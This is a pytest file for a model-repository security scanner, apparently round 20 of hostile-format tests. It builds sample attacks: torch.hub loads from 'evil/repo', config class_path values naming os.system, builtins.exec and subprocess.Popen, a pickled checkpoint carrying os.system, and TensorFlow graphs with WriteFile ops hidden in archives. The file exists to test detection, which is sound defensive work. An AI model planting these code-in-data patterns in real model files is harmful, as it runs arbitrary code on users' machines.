"""Round 20 (round 19's left-open format rows): loader calls judged by the name the import
resolves, diffusers custom components, jsonargparse `class_path`, GGUF in the pickle scan's one
read per file, TensorFlow/TFLite/Keras formats inside archive members."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from forkvet.report import Report, Risk

README = {"README.md": "# Model\n"}


def _remote(report: Report) -> list[Risk]:
    return [r for r in report.risks if r.kind == "remote-code"]


# -- torch.hub by the name the import resolves --------------------------------------------------
@pytest.mark.parametrize(
    "code",
    [
        "from torch import hub\nm = hub.load('evil/repo', 'm')\n",
        "import torch.hub as th\nm = th.load('evil/repo', 'm')\n",
        "from torch.hub import load as get\nm = get('evil/repo', 'm')\n",
        "import torch\nsd = torch.hub.load_state_dict_from_url('https://x.example/m.pth')\n",
        "from torch.utils import model_zoo\nsd = model_zoo.load_url('https://x.example/m.pth')\n",
        "from torch.hub import load_state_dict_from_url as f\nsd = f('https://x.example/m.pth')\n",
    ],
)
def test_torch_hub_calls_are_judged_by_the_name_the_import_resolves(
    vet_repo: Callable[..., Report], code: str
) -> None:
    report = vet_repo({**README, "run.py": code})
    found = _remote(report)
    assert found and found[0].path == "run.py" and found[0].line == 2, report.risks


def test_a_url_checkpoint_loaded_weights_only_passes(vet_repo: Callable[..., Report]) -> None:
    code = (
        "import torch\n"
        "sd = torch.hub.load_state_dict_from_url('https://x.example/m.pth', weights_only=True)\n"
    )
    assert not _remote(vet_repo({**README, "run.py": code}))


# -- jsonargparse / LightningCLI `class_path` -----------------------------------------------------
def _code_in_data(report: Report) -> list[Risk]:
    return [r for r in report.risks if r.kind == "code-in-data" and r.severity == "error"]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (
            "configs/fit.yaml",
            "model:\n  class_path: os.system\n  init_args:\n    command: id\n",
        ),
        ("configs/fit.json", '{"model": {"class_path": "builtins.exec", "init_args": {}}}'),
        ("run.cfg", "trainer:\n  callbacks:\n    - class_path: subprocess.Popen\n"),
    ],
)
def test_a_class_path_naming_other_code_is_code_in_data(
    vet_repo: Callable[..., Report], path: str, text: str
) -> None:
    found = _code_in_data(vet_repo({**README, path: text}))
    assert [r.path for r in found] == [path], found
    assert "class_path" in found[0].message


def test_a_class_path_of_a_known_class_or_a_short_name_passes(
    vet_repo: Callable[..., Report],
) -> None:
    text = (
        "optimizer:\n  class_path: torch.optim.Adam\n  init_args:\n    lr: 0.1\n"
        "model:\n  class_path: LitModel\n"
    )
    assert _code_in_data(vet_repo({**README, "configs/fit.yaml": text})) == []


def test_a_class_path_in_pickled_hyper_parameters_is_code_in_data(
    vet_repo: Callable[..., Report],
) -> None:
    import pickle

    hparams = {"model": {"class_path": "os.system", "init_args": {"command": "id"}}}
    state = {"state_dict": {}, "hyper_parameters": hparams}
    found = _code_in_data(vet_repo({**README, "last.ckpt": pickle.dumps(state, protocol=2)}))
    assert [r.path for r in found] == ["last.ckpt"], found


# -- diffusers model_index.json custom components ------------------------------------------------
def _index(**components: object) -> str:
    import json

    doc = {"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0"}
    return json.dumps({**doc, **components})


@pytest.mark.parametrize(
    "components",
    [
        {"unet": ["my_unet", "MyUNet"]},  # importlib.import_module("my_unet")
        {"unet": ["os", "system"]},
        {"_class_name": ["pipeline", "MyPipeline"]},  # a custom pipeline module
        # a library spelled like diffusers': diffusers imports that installed module
        {"unet": ["diffusers2", "UNet2DConditionModel"]},
    ],
)
def test_a_custom_diffusers_component_is_remote_code(
    vet_repo: Callable[..., Report], components: dict[str, object]
) -> None:
    files = {**README, "model_index.json": _index(**components)}
    found = _remote(vet_repo(files))
    assert [r.path for r in found] == ["model_index.json"], found
    assert found[0].severity == "warning"
    files["run.py"] = (
        "from diffusers import DiffusionPipeline\n"
        "p = DiffusionPipeline.from_pretrained('.', trust_remote_code=True)\n"
    )
    trusted = [r for r in _remote(vet_repo(files, name="t")) if r.path == "model_index.json"]
    assert trusted and trusted[0].severity == "error", trusted


def test_a_component_module_beside_the_index_is_remote_code(
    vet_repo: Callable[..., Report],
) -> None:
    files = {
        **README,
        "model_index.json": _index(unet=["stable_diffusion", "UNet"]),
        "unet/stable_diffusion.py": "class UNet: pass\n",
    }
    found = _remote(vet_repo(files))
    assert [r.path for r in found] == ["model_index.json"], found


def test_diffusers_own_components_pass(vet_repo: Callable[..., Report]) -> None:
    index = _index(
        unet=["diffusers", "UNet2DConditionModel"],
        text_encoder=["transformers", "CLIPTextModel"],
        safety_checker=["stable_diffusion", "StableDiffusionSafetyChecker"],
        feature_extractor=[None, None],
    )
    assert not _remote(vet_repo({**README, "model_index.json": index}))


# -- TensorFlow, TFLite and Keras formats inside archive members ---------------------------------
def _zip_of(members: dict[str, bytes]) -> bytes:
    import io
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def _tar_gz_of(members: dict[str, bytes]) -> bytes:
    import io
    import tarfile

    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as t:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _graph_payloads() -> dict[str, bytes]:
    from tests.hostile.test_round18_formats import _f, _saved_model, _tf_node
    from tests.hostile.test_round19_tf_graphs import _WRITE, _graph_def, _tflite

    write = _graph_def(*_WRITE)
    return {
        "export/saved_model.pb": _saved_model([*_WRITE], []),
        "frozen_inference_graph.pb": write,
        "weights.bin": write,  # by content, whatever its name
        "model.ckpt.meta": _f(2, write) + _f(3, _f(1, "save/Const:0") + _f(3, "w")),
        "model.tflite": _tflite("FlexWriteFile", _tf_node("w", "WriteFile", "p", "p")),
    }


def _tf_errors(report: Report, path: str) -> str:
    return " ".join(
        r.message
        for r in report.risks
        if r.severity == "error"
        and r.path == path
        and r.kind in ("code-in-data", "pickle-unverified")
    )


@pytest.mark.parametrize("member", list(_graph_payloads()))
@pytest.mark.parametrize("wrap", ["zip", "tar.gz", "zip in zip"])
def test_a_tensorflow_format_inside_an_archive_is_judged_as_on_disk(
    vet_repo: Callable[..., Report], member: str, wrap: str
) -> None:
    data = _graph_payloads()[member]
    if wrap == "zip":
        blob, path = _zip_of({f"m/{member}": data}), "model.zip"
    elif wrap == "tar.gz":
        blob, path = _tar_gz_of({f"m/{member}": data}), "model.tar.gz"
    else:
        blob, path = _zip_of({"inner.zip": _zip_of({member: data})}), "outer.zip"
    errors = _tf_errors(vet_repo({**README, path: blob}), path)
    assert "WriteFile" in errors, errors


def test_a_keras_archive_inside_an_archive_is_judged(vet_repo: Callable[..., Report]) -> None:
    from tests.hostile.test_round19_keras import _keras, _layer

    keras = _keras(_layer("keras.utils", "get_file"))
    report = vet_repo({**README, "bundle.zip": _zip_of({"model.keras": keras})})
    assert "get_file" in _tf_errors(report, "bundle.zip"), report.risks


def test_benign_graphs_inside_an_archive_pass(vet_repo: Callable[..., Report]) -> None:
    from tests.hostile.test_round19_tf_graphs import _BENIGN, _graph_def

    report = vet_repo({**README, "model.zip": _zip_of({"frozen.pb": _graph_def(*_BENIGN)})})
    assert not _tf_errors(report, "model.zip"), report.risks


def test_a_member_graph_over_the_bound_is_not_verified(
    vet_repo: Callable[..., Report], monkeypatch: pytest.MonkeyPatch
) -> None:
    from forkvet.vet import savedmodel
    from tests.hostile.test_round19_tf_graphs import _BENIGN, _graph_def

    blob = _zip_of({"frozen.pb": _graph_def(*_BENIGN), "data/0": bytes(range(256)) * 64})
    monkeypatch.setattr(savedmodel, "MAX_BYTES", 64)
    errors = _tf_errors(vet_repo({**README, "model.zip": blob}), "model.zip")
    assert "NOT verified" in errors and "frozen.pb" in errors, errors
    assert "data/0" not in errors, errors


# -- GGUF: one read per file, in the pickle scan --------------------------------------------------
def test_gguf_is_judged_in_the_pickle_scans_one_read(
    vet_repo: Callable[..., Report],
    make_repo: Callable[..., object],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import time

    from forkvet import snapshot
    from forkvet.vet import chattemplates
    from tests.hostile.test_round19_config_targets import EVIL_TEMPLATE, _gguf

    files = {**README, "model.gguf": _gguf(EVIL_TEMPLATE)}
    found = _code_in_data(vet_repo(files))
    assert [r.path for r in found] == ["model.gguf"], found
    assert "Chat template" in found[0].message
    # the chat-template check itself opens no file a second time
    snap = snapshot.load(make_repo(files, name="again"))  # type: ignore[arg-type]
    opened: list[str] = []
    real = snapshot.Snapshot.open

    def counting(self: snapshot.Snapshot, path: str, *a: object, **k: object) -> object:
        opened.append(path)
        return real(self, path, *a, **k)  # type: ignore[arg-type]

    monkeypatch.setattr(snapshot.Snapshot, "open", counting)
    assert chattemplates.template_risks(snap, time.monotonic() + 60) == []
    # (text files are read for Jinja's markers since round 22; the GGUF is not read again)
    assert "model.gguf" not in opened, opened


def test_a_gguf_inside_an_archive_is_judged(vet_repo: Callable[..., Report]) -> None:
    from tests.hostile.test_round19_config_targets import EVIL_TEMPLATE, _gguf

    found = _code_in_data(vet_repo({**README, "m.zip": _zip_of({"m.gguf": _gguf(EVIL_TEMPLATE)})}))
    assert [r.path for r in found] == ["m.zip"], found
